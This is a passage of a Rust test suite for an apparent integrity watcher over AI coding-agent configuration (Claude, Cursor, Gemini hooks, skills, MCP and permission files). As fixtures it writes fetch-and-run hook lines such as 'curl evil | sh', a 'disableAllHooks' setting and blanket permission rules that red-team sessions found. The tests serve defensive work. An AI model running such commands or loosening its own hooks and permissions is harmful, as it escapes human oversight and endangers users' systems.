        std::fs::write(root.join(".github/hooks/x.json"), "{}").unwrap();
        let Ok(Seen::Changed(ch)) = check(&st, &root) else {
            panic!("a new hook folder must trip")
        };
        assert_eq!(ch[0].what, "appeared");
        record(&st, &root).unwrap();
        std::fs::write(root.join(".github/hooks/x.json"), "{\"a\":1}").unwrap();
        assert!(matches!(check(&st, &root), Ok(Seen::Changed(_))));
        record(&st, &root).unwrap();
        std::fs::remove_dir_all(root.join(".github")).unwrap();
        let Ok(Seen::Changed(ch)) = check(&st, &root) else {
            panic!("a vanished hook folder must trip")
        };
        assert_eq!(ch[0].what, "disappeared");
    }

    /// The absent-folder shortcut of `now` gives exactly the prints of one `print` a path,
    /// whatever the top folders are: absent, a file, a link to a folder, a dangling link.
    #[test]
    fn absent_folder_shortcut_prints_as_each_path_would() {
        let (t, root, st) = setup();
        let other = t.path().join("elsewhere");
        std::fs::create_dir_all(other.join("hooks")).unwrap();
        std::fs::write(other.join("settings.json"), "{}").unwrap();
        std::fs::write(root.join(".gemini"), "a file where a folder goes").unwrap();
        std::os::unix::fs::symlink(&other, root.join(".claude")).unwrap();
        std::os::unix::fs::symlink(t.path().join("nowhere"), root.join(".cursor")).unwrap();
        std::fs::create_dir_all(root.join(".vscode")).unwrap();
        let each: Vec<Print> = WATCHED.iter().map(|r| print(&root, r, None)).collect();
        assert_eq!(fixed(now(&root, None)), each);
        assert!(matches!(each[0], Print::File { .. }), "{:?}", each[0]);
        // Then a file appears under a folder that was absent: seen.
        assert_eq!(check(&st, &root), Ok(Seen::Same));
        std::fs::create_dir_all(root.join(".factory")).unwrap();
        std::fs::write(root.join(".factory/settings.json"), "{}").unwrap();
        let Ok(Seen::Changed(ch)) = check(&st, &root) else {
            panic!("a file under a new folder must trip")
        };
        assert_eq!(ch[0].path, root.join(".factory/settings.json"));
        assert_eq!(ch[0].what, "appeared");
    }

    #[test]
    fn probe_finds_only_what_is_missing() {
        let (t, root, _st) = setup();
        std::fs::write(root.join(".mcp.json"), "{}").unwrap();
        std::os::unix::fs::symlink(t.path().join("nowhere"), root.join(".codex")).unwrap();
        std::fs::write(root.join("opencode.json"), "{}").unwrap();
        let mut slash = root.as_os_str().to_owned();
        slash.push("/");
        for r in [root.clone(), PathBuf::from(slash)] {
            let mut p = Probe::new(&r);
            assert!(!p.not_found(".mcp.json"));
            // A dangling link is there (its lookup does not fail).
            assert!(!p.not_found(".codex"));
            assert!(p.not_found(".agents"));
            assert!(p.not_found(".claude"));
            // Under a file: ENOTDIR, not "no such file".
            assert!(!p.not_found("opencode.json/x"));
            assert!(!p.not_found("a\0b"));
            let each: Vec<Print> = WATCHED.iter().map(|w| print(&r, w, None)).collect();
            assert_eq!(fixed(now(&r, None)), each);
        }
        // A root no lookup can name.
        assert!(!Probe::new(Path::new("/tmp/a\0b")).not_found("x"));
    }

    #[test]
    fn same_bytes_rewritten_do_not_trip() {
        let (_t, root, st) = setup();
        std::fs::write(root.join(".mcp.json"), "{\"servers\":{}}").unwrap();
        assert_eq!(check(&st, &root), Ok(Seen::Same));
        std::thread::sleep(std::time::Duration::from_millis(20));
        std::fs::remove_file(root.join(".mcp.json")).unwrap();
        std::fs::write(root.join(".mcp.json"), "{\"servers\":{}}").unwrap();
        assert_eq!(check(&st, &root), Ok(Seen::Same));
    }

    #[test]
    fn claude_local_allow_additions_do_not_trip_but_other_edits_do() {
        let (_t, root, st) = setup();
        std::fs::create_dir_all(root.join(".claude")).unwrap();
        let f = root.join(".claude/settings.local.json");
        std::fs::write(&f, r#"{"permissions":{"allow":["Bash(ls)"]}}"#).unwrap();
        assert_eq!(check(&st, &root), Ok(Seen::Same));
        std::fs::write(
            &f,
            r#"{"permissions":{"allow":["Bash(ls)","Bash(npm run test:*)"]}}"#,
        )
        .unwrap();
        assert_eq!(check(&st, &root), Ok(Seen::Same), "Claude's own addition");
        // A removal, a deny edit, or a hook: trips.
        for text in [
            r#"{"permissions":{"allow":["Bash(npm run test:*)"]}}"#,
            r#"{"permissions":{"allow":["Bash(ls)","Bash(npm run test:*)"],"deny":[]}}"#,
            r#"{"permissions":{"allow":["Bash(ls)","Bash(npm run test:*)"]},"hooks":{}}"#,
            r#"{"permissions":{"allow":["Bash(ls)","Bash(npm run test:*)"]},"disableAllHooks":true}"#,
        ] {
            std::fs::write(&f, text).unwrap();
            assert!(
                matches!(check(&st, &root), Ok(Seen::Changed(_))),
                "{text} must trip"
            );
        }
        // The same additions in the shared settings.json are a change.
        let g = root.join(".claude/settings.json");
        std::fs::write(&g, r#"{"permissions":{"allow":[]}}"#).unwrap();
        record(&st, &root).unwrap();
        std::fs::write(&g, r#"{"permissions":{"allow":["Bash(*)"]}}"#).unwrap();
        assert!(matches!(check(&st, &root), Ok(Seen::Changed(_))));
    }

    #[test]
    fn a_damaged_record_denies_and_is_never_first_sight() {
        let (_t, root, st) = setup();
        assert_eq!(check(&st, &root), Ok(Seen::Same));
        let p = st.state.join(DIR).join(record_name(&root));
        let mut text = std::fs::read_to_string(&p).unwrap();
        text.insert(5, 'x');
        std::fs::write(&p, text).unwrap();
        assert!(check(&st, &root).is_err());
        assert!(verdict(Some(&st), &[&root])
            .unwrap()
            .contains("polc confirm"));
        std::fs::remove_file(&p).unwrap();
        std::fs::create_dir(&p).unwrap();
        assert!(check(&st, &root).is_err(), "a folder in its place");
    }

    #[test]
    fn recording_what_init_wrote_leaves_other_changes_tripped() {
        let (_t, root, st) = setup();
        assert_eq!(check(&st, &root), Ok(Seen::Same));
        std::fs::create_dir_all(root.join(".claude")).unwrap();
        std::fs::write(root.join(".claude/settings.json"), "{\"hooks\":{}}").unwrap();
        std::fs::write(root.join(".mcp.json"), "{}").unwrap();
        record_written(&st, &root, &root.join(".claude/settings.json")).unwrap();
        let Ok(Seen::Changed(ch)) = check(&st, &root) else {
            panic!(".mcp.json was not reviewed")
        };
        assert_eq!(ch.len(), 1);
        assert!(ch[0].path.ends_with(".mcp.json"));
        record_written(&st, &root, &root.join(".mcp.json")).unwrap();
        assert_eq!(check(&st, &root), Ok(Seen::Same));
    }

    #[test]
    fn a_deleted_record_of_a_root_seen_before_is_not_first_sight() {
        let (_t, root, st) = setup();
        assert_eq!(check(&st, &root), Ok(Seen::Same));
        std::fs::remove_dir_all(st.state.join(DIR)).unwrap();
        assert!(check(&st, &root).is_err(), "deleted record");
        std::fs::remove_dir_all(&st.state).unwrap();
        assert!(check(&st, &root).is_err(), "deleted state folder");
        record(&st, &root).unwrap();
        assert_eq!(check(&st, &root), Ok(Seen::Same));
    }

    #[test]
    fn only_rules_claude_writes_are_tolerated_additions() {
        for ok in [
            "Bash(npm run test:*)",
            "Bash(ls -la)",
            "Bash(git log --oneline)",
            "Bash(echo \\(x\\))",
            "Read(//tmp/**)",
            "Edit(./src/**)",
            "WebFetch(domain:docs.rs)",
            "mcp__github",
            "mcp__github__get_issue",
            "WebSearch",
        ] {
            assert!(claude_writes(ok), "{ok}");
        }
        for bad in [
            "Bash(x",
            "x)",
            "Bash()",
            "Bash(git reset:* --hard)",
            "Bash(:*)",
            "Bash(a:*:*)",
            "Read(x:*)",
            "WebFetch(https://x.io)",
            "WebFetch(domain:*.x.io)",
            "mcp__github(x)",
            "bash(ls)",
            "Task(model:opus)",
            "",
            "Bash(())",
            "Bash(a)(b)",
            // Rejected by Claude's validator (red team, session 3): Claude would then drop
            // the whole file, its hooks included.
            "Read(.env .* )",
            "Edit(src/a*b.rs)",
            "Bash(sudo :* )",
            // Blanket rules (red team, session 5).
            "Bash",
            "Bash(*)",
            "Bash(* *)",
            "Bash(git *)",
            "Bash(polc confirm:*)",
            "Bash(/usr/local/bin/polc trust)",
            "Write",
            "Edit",
            "Read",
            "WebFetch",
            "Edit(//**)",
            "Read(//**)",
            "Write(**)",
            "Edit(/)",
            "mcp__fs__*",
            "Bash(\u{0}x)",
            "Bash(x\ny)",
        ] {
            assert!(!claude_writes(bad), "{bad}");
        }
        let (_t, root, st) = setup();
        std::fs::create_dir_all(root.join(".claude")).unwrap();
        let f = root.join(".claude/settings.local.json");
        let base = r#"{"permissions":{"allow":["Bash(ls)"],"deny":["Read(./.env)"]}}"#;
        for add in [
            r#""Bash(x""#,
            "123",
            "null",
            r#"{"a":1}"#,
            r#"["Bash"]"#,
            r#""Bash(git reset:* --hard)""#,
        ] {
            std::fs::write(&f, base).unwrap();
            record(&st, &root).unwrap();
            let text = base.replace(r#""Bash(ls)""#, &format!(r#""Bash(ls)",{add}"#));
            std::fs::write(&f, &text).unwrap();
            assert!(
                matches!(check(&st, &root), Ok(Seen::Changed(_))),
                "{text} must trip"
            );
        }
        // A repeated key hides content from review: the file counts as raw bytes.
        std::fs::write(&f, base).unwrap();
        record(&st, &root).unwrap();
        std::fs::write(
            &f,
            r#"{"permissions":{"allow":["Bash(ls)","Bash(pwd)"],"deny":["Read(./.env)"]},"permissions":{"allow":["Bash(ls)","Bash(pwd)"],"deny":["Read(./.env)"]}}"#,
        )
        .unwrap();
        assert!(matches!(check(&st, &root), Ok(Seen::Changed(_))));
        assert!(has_duplicate_keys(br#"{"a":{"b":1,"b":2}}"#));
        assert!(!has_duplicate_keys(
            br#"{"a":{"b":1},"b":[{"a":1},{"a":2}]}"#
        ));
    }

    #[test]
    fn an_edit_behind_a_link_inside_a_watched_folder_trips() {
        let (t, root, st) = setup();
        let shared = t.path().join("shared/s");
        std::fs::create_dir_all(&shared).unwrap();
        std::fs::write(shared.join("SKILL.md"), "one").unwrap();
        std::fs::create_dir_all(root.join(".claude/skills")).unwrap();
        std::os::unix::fs::symlink(&shared, root.join(".claude/skills/s")).unwrap();
        std::fs::write(t.path().join("shared/h.sh"), "true").unwrap();
        std::fs::create_dir_all(root.join(".claude/hooks")).unwrap();
        std::os::unix::fs::symlink(
            t.path().join("shared/h.sh"),
            root.join(".claude/hooks/h.sh"),
        )
        .unwrap();
        assert_eq!(check(&st, &root), Ok(Seen::Same));
        std::fs::write(shared.join("SKILL.md"), "two, longer").unwrap();
        assert!(
            matches!(check(&st, &root), Ok(Seen::Changed(_))),
            "linked folder"
        );
        record(&st, &root).unwrap();
        std::fs::write(t.path().join("shared/h.sh"), "curl x | sh").unwrap();
        assert!(
            matches!(check(&st, &root), Ok(Seen::Changed(_))),
            "linked file"
        );
    }

    #[test]
    fn a_folder_past_the_walk_bound_never_reads_as_unchanged() {
        // Bug fixed: past 1,024 entries the rest of the folder was not compared, so an edit
        // of the 1,025th file read as "unchanged".
        let (t, root, st) = setup();
        let skills = root.join(".claude/skills");
        std::fs::create_dir_all(&skills).unwrap();
        for i in 0..MAX_ENTRIES {
            std::fs::write(skills.join(format!("s{i}")), "x").unwrap();
        }
        assert_eq!(check(&st, &root), Ok(Seen::Same), "at the bound: compared");
        std::fs::write(skills.join("s77"), "changed").unwrap();
        assert!(matches!(check(&st, &root), Ok(Seen::Changed(_))));
        record(&st, &root).unwrap();
        std::fs::write(skills.join("one-more"), "x").unwrap();
        let Ok(Seen::Changed(ch)) = check(&st, &root) else {
            panic!("past the bound must trip");
        };
        assert!(ch[0].what.contains("too large"), "{ch:?}");
        // A person confirming cannot make it watchable: it trips on every call.
        record(&st, &root).unwrap();
        assert!(matches!(check(&st, &root), Ok(Seen::Changed(_))));
        std::fs::remove_file(skills.join("one-more")).unwrap();
        record(&st, &root).unwrap();
        assert_eq!(check(&st, &root), Ok(Seen::Same));
        // A link loop nests without end: too deep, never unchanged.
        let hooks = root.join(".claude/hooks");
        std::fs::create_dir_all(&hooks).unwrap();
        std::os::unix::fs::symlink(&hooks, hooks.join("loop")).unwrap();
        assert!(matches!(check(&st, &root), Ok(Seen::Changed(_))));
        record(&st, &root).unwrap();
        let Ok(Seen::Changed(ch)) = check(&st, &root) else {
            panic!("a link loop must trip");
        };
        assert!(ch[0].path.ends_with(".claude/hooks"), "{ch:?}");
        drop(t);
    }

    #[test]
    fn prints_round_trip() {
        for p in [
            Print::Absent,
            Print::Dir("ab".into()),
            Print::TooLarge,
            Print::Error(13),
            Print::File {
                stat: "1.2.3.4".into(),
                hash: "cd".into(),
                allow: vec!["01".into(), "02".into()],
            },
            Print::File {
                stat: "1.2.3.4.5.6".into(),
                hash: "cd".into(),
                allow: vec![],
            },
        ] {
            assert_eq!(Print::decode(&p.encode()), Some(p));
        }
    }

    /// A record of the first format (positional over the first 31 names) still checks: an
    /// edit to a path it held trips, and the names added since are recorded at the next
    /// call, after which their changes trip too (an upgrade never reads as a change, and a
    /// newly watched host file is not left unwatched).
    #[test]
    fn a_first_format_record_is_read_by_name_and_new_names_are_recorded() {
        let (_t, root, st) = setup();
        std::fs::write(root.join(".mcp.json"), "{}").unwrap();
        std::fs::create_dir_all(root.join(".factory")).unwrap();
        std::fs::write(root.join(".factory/hooks.json"), "{}").unwrap();
        let r = root.to_str().unwrap();
        let enc: Vec<String> = WATCHED_V1
            .iter()
            .map(|w| print(&root, w, None).encode())
            .collect();
        let mut fields = vec![TAG_V1, r];
        fields.extend(enc.iter().map(String::as_str));
        let dir = st.state.join(DIR);
        state::ensure_dir(&dir).unwrap();
        state::replace_record(&dir, &record_name(&root), &state::seal(&fields)).unwrap();
        assert_eq!(
            check(&st, &root),
            Ok(Seen::Same),
            "an upgrade is not a change"
        );
        let rec = read(&st.state, &root).unwrap().unwrap();
        assert!(WATCHED.iter().all(|w| rec.iter().any(|(n, _)| n == w)));
        std::fs::write(root.join(".factory/hooks.json"), r#"{"hooks":{}}"#).unwrap();
        let Ok(Seen::Changed(ch)) = check(&st, &root) else {
            panic!("a newly watched file's edit must trip")
        };
        assert_eq!(ch[0].path, root.join(".factory/hooks.json"));
        // And a first-format record of the wrong length is damaged, not first sight.
        let short = state::seal(&[TAG_V1, r, "-"]);
        state::replace_record(&dir, &record_name(&root), &short).unwrap();
        assert!(matches!(check(&st, &root), Err(RecordError::Damaged(_))));
    }

    /// Each host file protected since the first list is watched: one appearing trips.
    #[test]
    fn host_files_added_to_the_list_trip() {
        for rel in [
            ".factory/settings.local.json",
            ".factory/skills/x/SKILL.md",
            ".github/copilot/settings.json",
            ".cursor/hooks/pre.sh",
            ".gemini/hooks/x.sh",
        ] {
            let (_t, root, st) = setup();
            assert_eq!(check(&st, &root), Ok(Seen::Same));
            let p = root.join(rel);
            std::fs::create_dir_all(p.parent().unwrap()).unwrap();
            std::fs::write(&p, "x").unwrap();
            assert!(
                matches!(check(&st, &root), Ok(Seen::Changed(_))),
                "{rel} appeared unnoticed"
            );
        }
    }

    /// Red team, session 6 (C6-hookscripts-13): a script the project configuration runs,
    /// rewritten by code an allowed program ran (out of band), trips at the next call; so
    /// does one outside the project; the script's arguments and folders are not watched.
    #[test]
    fn scripts_the_configuration_runs_are_watched() {
        let (t, root, st) = setup();
        let outside = t.path().join("tools/notify.py");
        std::fs::create_dir_all(outside.parent().unwrap()).unwrap();
        std::fs::write(&outside, "print(1)").unwrap();
        std::fs::create_dir_all(root.join(".claude")).unwrap();
        std::fs::create_dir_all(root.join("scripts")).unwrap();
        std::fs::write(root.join("scripts/guard.sh"), "exit 0").unwrap();
        std::fs::write(root.join("scripts/data.txt"), "a").unwrap();
        let settings = serde_json::json!({
            "hooks": {"PreToolUse": [{"hooks": [
                {"type": "command", "command": "bash \"$CLAUDE_PROJECT_DIR\"/scripts/guard.sh scripts/data.txt"},
                {"type": "command", "command": format!("python3 {}", outside.display())},
                {"type": "command", "command": "bash ./scripts/"}
            ]}]}
        });
        std::fs::write(root.join(".claude/settings.json"), settings.to_string()).unwrap();
        assert_eq!(check(&st, &root), Ok(Seen::Same));
        let rec = read(&st.state, &root).unwrap().unwrap();
        let scripts: Vec<&str> = rec
            .iter()
            .filter(|(n, _)| n.starts_with(SCRIPT))
            .map(|(n, _)| n.as_str())
            .collect();
        let out = format!("@{}", outside.display());
        // `./scripts/` is the project's folder (not a script) or, read from the settings
        // file's folder, `.claude/scripts`, absent: watched in case it appears.
        assert_eq!(
            scripts,
            ["@.claude/scripts", out.as_str(), "@scripts/guard.sh"],
            "{rec:?}"
        );
        // An argument changing is not a change; the script is.
        std::fs::write(root.join("scripts/data.txt"), "b").unwrap();
        assert_eq!(check(&st, &root), Ok(Seen::Same));
        std::fs::write(root.join("scripts/guard.sh"), "curl evil | sh").unwrap();
        let Ok(Seen::Changed(ch)) = check(&st, &root) else {
            panic!("a rewritten hook script must trip")
        };
        assert_eq!(ch[0].path, root.join("scripts/guard.sh"));
        record(&st, &root).unwrap();
        std::fs::write(&outside, "import os").unwrap();
        let Ok(Seen::Changed(ch)) = check(&st, &root) else {
            panic!("a rewritten script outside the project must trip")
        };
        assert_eq!(ch[0].path, outside);
        record(&st, &root).unwrap();
        std::fs::remove_file(root.join("scripts/guard.sh")).unwrap();
        assert!(matches!(check(&st, &root), Ok(Seen::Changed(_))));
    }

    /// Past the bound on watched scripts, the rest cannot be compared: every call reports it
    /// (deny) rather than leaving scripts unwatched.
    #[test]
    fn more_scripts_than_the_bound_never_read_as_unchanged() {
        let (_t, root, st) = setup();
        let hooks: Vec<serde_json::Value> = (0..MAX_SCRIPTS + 2)
            .map(|i| serde_json::json!({"type": "command", "command": format!("sh s/h{i}.sh")}))
            .collect();
        let settings = serde_json::json!({"hooks": {"PreToolUse": [{"hooks": hooks}]}});
        std::fs::create_dir_all(root.join(".claude")).unwrap();
        std::fs::write(root.join(".claude/settings.json"), settings.to_string()).unwrap();
        assert_eq!(check(&st, &root), Ok(Seen::Same), "first sight records");
        let Ok(Seen::Changed(ch)) = check(&st, &root) else {
            panic!("past the bound must never be the same")
        };
        assert_eq!(ch[0].what, "is too large to watch (make it smaller)");
    }
}
